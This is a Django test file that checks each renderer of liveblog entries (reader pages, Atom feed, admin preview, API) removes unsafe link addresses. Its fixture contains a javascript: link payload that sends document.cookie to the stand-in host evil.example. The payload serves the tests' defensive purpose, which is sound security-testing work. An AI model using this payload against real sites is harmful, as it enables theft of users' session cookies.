"""Every renderer of entry bodies applies body.safe_url(): page, feed, admin preview and API.

The policy itself is tested in test_body.py; entry_preview.js against it in
test_security_browser.py.
"""

import pytest
from django.urls import reverse

from tests.factories import make_blog, make_entry

pytestmark = pytest.mark.django_db

BODY = (
    "Opening.\n\n[Verify](javascript:fetch`//evil.example/${document.cookie}`)"
    "\n\n[Elsewhere](//evil.example/)\n\n[Read more](https://example.com/story)"
    "\n\n[Earlier](/other-blog/)"
)


@pytest.fixture
def entry():
    return make_entry(make_blog(slug="policy"), headline="Links", body=BODY)


def assert_only_safe_links(html: str) -> None:
    assert "javascript:" not in html
    assert "evil.example" not in html
    assert 'href="https://example.com/story"' in html
    assert 'href="/other-blog/"' in html


def test_reader_pages(client, entry):
    assert_only_safe_links(client.get(entry.blog.get_absolute_url()).content.decode())
    assert_only_safe_links(client.get(entry.get_absolute_url()).content.decode())


def test_atom_feed(client, entry):
    feed = client.get(reverse("liveblog:blog-feed", args=[entry.blog.slug])).content.decode()
    # The feed carries the entry as escaped HTML; unescape the attribute quotes to read it.
    assert_only_safe_links(feed.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">"))


def test_admin_preview(editor_client, entry):
    html = editor_client.get(reverse("admin:liveblog_entry_change", args=[entry.pk]))
    html = html.content.decode()
    preview = html[html.index('id="lb-server-preview"') :]
    preview = preview[: preview.index("</div>")]
    assert_only_safe_links(preview)
    # The editor is told why the link will have no address, rather than seeing it vanish.
    assert preview.count("address refused") == 2
    # The textarea still holds what the editor typed.
    assert "javascript:fetch" in html[: html.index('id="lb-server-preview"')]


def test_api_blocks_give_refused_addresses_as_absent(client, entry):
    for url in (f"/api/entries/{entry.pk}/", f"/api/blogs/{entry.blog.slug}/entries/"):
        data = client.get(url).json()
        blocks = data["blocks"] if "blocks" in data else data["results"][0]["blocks"]
        links = [block for block in blocks if block["type"] == "link"]
        assert links == [
            {"type": "link", "text": "Verify"},
            {"type": "link", "text": "Elsewhere"},
            {"type": "link", "text": "Read more", "url": "https://example.com/story"},
            {"type": "link", "text": "Earlier", "url": "/other-blog/"},
        ]
